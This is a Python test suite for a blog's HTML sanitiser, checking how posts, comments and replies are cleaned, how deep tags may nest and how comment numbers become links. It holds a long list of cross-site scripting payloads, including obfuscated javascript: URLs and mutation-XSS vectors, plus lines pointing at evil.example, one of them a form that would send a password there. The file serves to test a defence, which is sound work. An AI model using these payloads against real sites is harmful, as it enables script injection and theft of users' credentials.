"""The one door for HTML: what goes in, what comes out, and what never does."""

import re

import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st

from blogsite import html

REL = 'rel="nofollow ugc noopener"'

POSTS = [
    ("<p>one<p>two", "<p>one</p><p>two</p>"),
    ("<h1>Low water</h1>", "<h2>Low water</h2>"),
    ("<h2>Low <em>water</em></h2>", "<h2>Low <em>water</em></h2>"),
    ("<center>x</center><strike>y</strike>", "<div>x</div><s>y</s>"),
    ("<font color=red>red</font> <o:p>word</o:p>", "red word"),
    ("<script>steer()</script>after", "after"),
    ("before<style>b { color: red }</style>", "before"),
    ('<p style="color: red" class="x" id="y">plain</p>', "<p>plain</p>"),
    ("<img src=fog.jpg alt='Fog' onerror=steer()>", '<img src="fog.jpg" alt="Fog">'),
    ("<a href='/pages/tides/'>in</a>", '<a href="/pages/tides/">in</a>'),
    ("<a href='mailto:a@b.example'>m</a>", '<a href="mailto:a@b.example">m</a>'),
    (
        "<table><tr><td colspan=2>x</table>",
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
    ),
    ("<pre>  1\n  http://a.example</pre>", "<pre>  1\n  http://a.example</pre>"),
    (
        "see http://a.example/x.",
        'see <a href="http://a.example/x">http://a.example/x</a>.',
    ),
    ("a\x00b\x0bc\r\nd", "abc\nd"),
    ("", ""),
]

COMMENTS = [
    ("plain words", "<p>plain words</p>"),
    ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
    ("one\r\ntwo\r\n \r\nthree", "<p>one<br>two</p><p>three</p>"),
    ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
    ("I <3 this", "<p>I &lt;3 this</p>"),
    ("<sarcasm>sure</sarcasm>", "<p>&lt;sarcasm&gt;sure&lt;/sarcasm&gt;</p>"),
    ("<b>bold", "<p><b>bold</b></p>"),
    ("<b><i>crossed</b></i>", "<p><b><i>crossed</i></b></p>"),
    ("the <title> tag, you mean", "<p>the &lt;title&gt; tag, you mean</p>"),
    ('it says <a href="x and that is all', '<p>it says &lt;a href="x and that is all</p>'),
    ("<div>one</div><div>two</div>", "<p>one</p><p>two</p>"),
    ("one<br><br>two<br/>three", "<p>one</p><p>two<br>three</p>"),
    ("<ul><li>a<li>b</ul>", "<p>a<br>b</p>"),
    ("<h1>Big</h1>words", "<p>Big</p><p>words</p>"),
    ("<table><tr><td>one<td>two</table>", "<p>one two</p>"),
    ("<blockquote>said</blockquote>answer", "<blockquote><p>said</p></blockquote><p>answer</p>"),
    ("<img src=fog.jpg>", ""),
    (" \n\n ", ""),
    ("file.py and a.b.example", "<p>file.py and a.b.example</p>"),
    (
        "(see www.tide.example/a_(b)).",
        f'<p>(see <a href="http://www.tide.example/a_(b)" {REL}>www.tide.example/a_(b)</a>).</p>',
    ),
    (
        "https://x.example/?a=1&b=2, ok",
        f'<p><a href="https://x.example/?a=1&amp;b=2" {REL}>https://x.example/?a=1&amp;b=2</a>,'
        " ok</p>",
    ),
    (
        '<a href="https://x.example/" rel="me" target="_blank">x</a>',
        f'<p><a href="https://x.example/" {REL}>x</a></p>',
    ),
]

REPLIES = [
    ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
    ("<h3>First</h3>words", "<h3>First</h3><p>words</p>"),
    ("<ol><li>a<li>b</ol>", "<ol><li>a</li><li>b</li></ol>"),
    ("<h2>First</h2>", "<p>First</p>"),
    ("<table><tr><td>x</table>", "<p>x</p>"),
]


@pytest.mark.parametrize(
    "door, given, shown",
    [
        *(("post", *case) for case in POSTS),
        *(("comment", *case) for case in COMMENTS),
        *(("reply", *case) for case in REPLIES),
    ],
)
def test_what_goes_in_comes_out_like_this(door, given, shown):
    assert html.DOORS[door](given) == shown


# Pieces that break sanitisers when they are put together.
TAGS = sorted(html.KNOWN | {"sarcasm", "mi", "xmp", "plaintext", "noembed", "foreignobject"})
WRITTEN = ["<{}>", "</{}>", "<{}/>", "<{} href='javascript:x'>", "<{} src='x' onerror='y'>"]
WRITTEN += ["<{} href='http://a.example/?b&c'>", "<{} title='a>b'>", "<{} href='", "<{}", '<{} "']
PIECES = st.one_of(
    st.builds(str.format, st.sampled_from(WRITTEN), st.sampled_from(TAGS)),
    st.builds(str.format, st.sampled_from(WRITTEN), st.sampled_from(TAGS)),
    st.sampled_from(
        ["\n", "\n\n", " ", "\t", "http://a.example/b", "www.a.example.", "&amp;", "&nbsp;", "\xa0"]
        + ["&lt;b&gt;", "&#60;", "&", "<", ">", "'", '"', "<!--", "-->", "<![CDATA[", "]]>", "\r"]
    ),
    st.text(max_size=4),
)
TEXTS = st.one_of(st.text(), st.lists(PIECES, max_size=14).map("".join))


@pytest.mark.parametrize("door", html.DOORS)
def test_put_through_twice_it_comes_out_the_same(door):
    @given(TEXTS)
    def through_twice(text):
        once = html.DOORS[door](text)
        assert html.DOORS[door](once) == once

    through_twice()


TAGS_OF = {"post": html.POST_TAGS, "comment": html.COMMENT_TAGS, "reply": html.REPLY_TAGS}
ATTRIBUTES_OF = {
    "post": html.POST_ATTRIBUTES,
    "comment": {"a": {"href", "rel"}},
    "reply": {"a": {"href", "rel"}},
}


# Said here once more, so that a slip in the lists of the door is seen too.
HARMLESS = {"http", "https", "mailto"}
NEVER = {"script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "base"}
NEVER |= {"link", "meta", "template", "noscript", "textarea", "title", "video", "audio", "button"}
DEEPEST = 80  # 40 that were written, and what a parser adds: bodies of tables, paragraphs


def dangers(door, shown):
    """Return what a parser finds in `shown` that its door must not let through."""
    found = []
    for element in lxml.html.fragment_fromstring(shown, create_parent="body").iterdescendants():
        if element.tag not in TAGS_OF[door] - NEVER:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            allowed = ATTRIBUTES_OF[door].get(element.tag, ())
            if name not in allowed or name.startswith("on") or name in ("style", "id", "class"):
                found.append(f"<{element.tag} {name}>")
            # As browsers do: blanks and control characters in a scheme are passed over.
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", value.lower()))
            if name in ("href", "src") and scheme and scheme[1] not in HARMLESS:
                found.append(f"{name}={value!r}")
    return found


PAYLOADS = [
    "<script>alert(1)</script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='x' alt='`><script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\x01script:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href=' \x0b javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href='file:///etc/passwd'>x</a>",
    "http://a.example/\"onmouseover='alert(1)'",
    "http://a.example/'><script>alert(1)</script>",
    "www.a.example/<b onclick=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import 'http://evil.example/';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<form action='http://evil.example/'><input name=password><button>go</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<p id='comments' name='body' class='author'>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<b/onclick=alert(1)>x</b>",
    "<a href='x' <script>alert(1)</script>",
    "<a href='",
    '<img src="x',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>\u2028<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<isindex action=javascript:alert(1) type=image>",
    "<q cite='javascript:alert(1)'>x</q><del cite='javascript:alert(1)'>y</del>",
    "<td background='javascript:alert(1)'>x</td>",
]


@pytest.mark.parametrize("door", html.DOORS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_dangerous_comes_out(door, payload):
    assert dangers(door, html.DOORS[door](payload)) == []


@pytest.mark.parametrize("door", html.DOORS)
def test_nothing_dangerous_comes_out_of_whatever_is_put_together(door):
    @given(st.lists(st.one_of(PIECES, st.sampled_from(PAYLOADS)), max_size=8).map("".join))
    def put_together(text):
        assert dangers(door, html.DOORS[door](text)) == []

    put_together()


def depth(shown):
    """Return how deep the tags in `shown` are nested."""
    body = lxml.html.fragment_fromstring(shown, create_parent="body")
    return max(len(list(element.iterancestors())) for element in body.iter())


@pytest.mark.parametrize("door", html.DOORS)
@pytest.mark.parametrize(
    "nested",
    [
        *("<div>", "<b>", "<b/>", "<blockquote>", "<ul><li>", "<table><tr><td>", "<i><blockquote>"),
        *(
            "<b><div></b>",
            "<a href=x><div>",
            "<em title='x>y'><p>",
            '<b "',
            "<font><b x'>",
            "<svg>",
        ),
    ],
)
def test_sixty_thousand_characters_of_tags_are_nested_no_deeper_than_allowed(door, nested):
    text = nested * (60_000 // len(nested)) + "words"

    assert depth(html.DOORS[door](text)) <= DEEPEST


def test_quotes_do_not_hide_tags_from_the_bound():
    text = '<b "' + "<blockquote>" * 5_000 + '">words'

    assert depth(html.post(text)) <= DEEPEST


def test_paragraphs_and_items_that_nobody_closed_are_all_there():
    text = "".join(f"<p>part {n}" for n in range(100)) + "<ul>" + "<li>item <b>x</b>" * 100

    shown = html.post(text)

    assert (shown.count("<p>"), shown.count("<li>"), shown.count("<b>")) == (100, 100, 100)


def test_what_is_too_long_is_refused_and_not_cut():
    with pytest.raises(ValueError, match="4,000,001"):
        html.post("x" * (html.LONGEST + 1))


@pytest.mark.parametrize(
    "shown, words",
    [
        ("<p>one</p><p>two</p>", "one two"),
        ("a<br>b", "a b"),
        ("<b>bo</b>ld", "bold"),
        ("<ul><li>a</li><li>b</li></ul>", "a b"),
        ("&lt;b&gt; &amp; c", "<b> & c"),
        ('<img alt="a > b" src="x">after', "after"),
        ("", ""),
    ],
)
def test_to_text_gives_the_words_alone(shown, words):
    assert html.to_text(shown) == words


def test_formatting_that_is_never_closed_is_not_opened_again_and_again_in_each_paragraph():
    typed = "<b><i>" * 19 + "<p>x" * 2000

    assert len(html.comment(typed)) < 20 * len(typed)


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("As #37 says.", '<p>As <a href="/p/#c37">#37</a> says.</p>'),
        ("#1, (#2) and #3.", None),
        ("don't; it's", "<p>don't; it's</p>"),
        ("a&#39;b", None),
        ("#0 #x #37x x#37 ##37 #1234567 /#37", "<p>#0 #x #37x x#37 ##37 #1234567 /#37</p>"),
        ('<a href="https://a.example/#37">see #37</a>', None),
        ("https://a.example/#37", None),
    ],
)
def test_numbers_in_a_comments_words_lead_to_comments(typed, shown):
    clean = html.comment(typed)
    linked = html.with_numbers(clean, "/p/#c{}".format)

    if shown is None:
        assert linked.count("#c") == (3 if typed.startswith("#1") else 0)
    else:
        assert linked == shown
    assert re.sub("<[^>]*>", "", linked) == re.sub("<[^>]*>", "", clean)
    assert isinstance(linked, html.Clean)


def test_an_address_is_escaped_and_what_came_out_of_no_door_stays_as_it_is():
    assert html.with_numbers("<b>#37</b>", "#c{}".format) == "<b>#37</b>"
    assert not isinstance(html.with_numbers("<b>#37</b>", "#c{}".format), html.Clean)
    linked = html.with_numbers(html.comment("#37"), '/"><b>/#c{}'.format)
    assert linked == '<p><a href="/&quot;&gt;&lt;b&gt;/#c37">#37</a></p>'


def test_only_the_first_fifty_numbers_of_a_comment_become_links():
    clean = html.comment(" ".join(f"#{number}" for number in range(1, 90)) + "<b>#90</b>")
    asked = []

    linked = html.with_numbers(clean, lambda number: asked.append(number) or f"#c{number}")

    assert asked == list(range(1, 51))
    assert linked.count("<a ") == 50
    assert re.sub("<[^>]*>", "", linked) == re.sub("<[^>]*>", "", clean)


def test_a_number_that_leads_to_another_page_is_not_for_crawlers():
    linked = html.with_numbers(html.comment("#37"), "/p/?comment={}".format)

    assert linked == '<p><a href="/p/?comment=37" rel="nofollow">#37</a></p>'


def test_a_number_that_leads_nowhere_stays_words():
    clean = html.comment("#1 and #37")

    linked = html.with_numbers(clean, lambda number: "#c1" if number == 1 else None)

    assert linked == '<p><a href="#c1">#1</a> and #37</p>'


def test_a_bracket_that_is_a_word_stays_one_whatever_stands_in_for_it_within():
    assert html.reply("1 <3 2 \U0010fffd &#x10FFFD;") == "<p>1 &lt;3 2  &lt;</p>"
    assert html.comment("www.x.example<3") == (
        '<p><a href="http://www.x.example" rel="nofollow ugc noopener">www.x.example</a>&lt;3</p>'
    )


def test_a_tag_longer_than_anybody_writes_is_words():
    assert html.reply(f"<p {'a=b ' * 1000}>So.</p>").startswith("<p>&lt;p a=b a=b")
    assert html.reply(f'<a href="https://a.example/{"b" * 2000}">So</a>').startswith("<p><a href=")
